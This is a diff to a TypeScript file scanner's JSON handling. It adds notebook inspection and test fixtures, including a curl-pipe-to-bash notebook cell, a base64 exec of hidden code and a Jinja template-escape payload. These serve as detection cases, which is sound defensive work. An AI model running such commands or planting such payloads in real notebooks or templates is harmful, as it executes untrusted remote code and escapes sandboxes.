@@ -5,6 +5,7 @@ import { lookFor } from '../settings-keys.ts';
 import { SETTINGS_RULES } from '../settings-rules.ts';
 import type { Source } from '../source.ts';
 import { TEMPLATE_RULES } from '../template-rules.ts';
+import { Notebook } from './notebook.ts';
 
 const bytes = (value: unknown) => () =>
   new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value));
@@ -91,6 +92,16 @@ export const json: Format = {
         rules: ['template.escape'],
       },
       {
+        name: 'a notebook that fetches and runs',
+        bytes: notebookOf('!curl https://example.com/x.sh | bash\n'),
+        rules: ['code.hostile-command'],
+      },
+      {
+        name: 'a notebook with hidden code',
+        bytes: notebookOf('import base64\n', 'exec(base64.b64decode("eA=="))'),
+        rules: ['code.hidden-code'],
+      },
+      {
         name: 'a template in a list',
         bytes: bytes({ chat_template: [{ name: 'default', template: '{{ lipsum.__globals__ }}' }] }),
         rules: ['template.escape'],
@@ -125,8 +136,10 @@ async function read(part: Part): Promise<void> {
   const { source } = part;
   const facts: Record<string, unknown> = {};
   const architectures: string[] = [];
+  const notebook = new Notebook();
   const scalar = (path: JsonPath, value: JsonScalar, from: number, end: number): void => {
     lookFor(path)?.(part, { path, value, start: from, end });
+    notebook.scalar(path, value);
     const [name] = path;
     if (path.length === 1 && FACTS.has(String(name)) && String(value).length <= LONGEST_FACT)
       facts[String(name)] = value;
@@ -142,6 +155,7 @@ async function read(part: Part): Promise<void> {
   // A guess looks at nothing before it is sure: the first walk only tells whether it is JSON at all.
   await walkJson(source, {}, part.pause);
   await walkJson(source, { scalar, twice }, part.pause);
+  notebook.judge(part);
   if (architectures.length > 0) facts.architectures = architectures;
   if (Object.keys(facts).length > 0) part.note(facts);
   part.coverage.claim('parsed', 0, source.size);
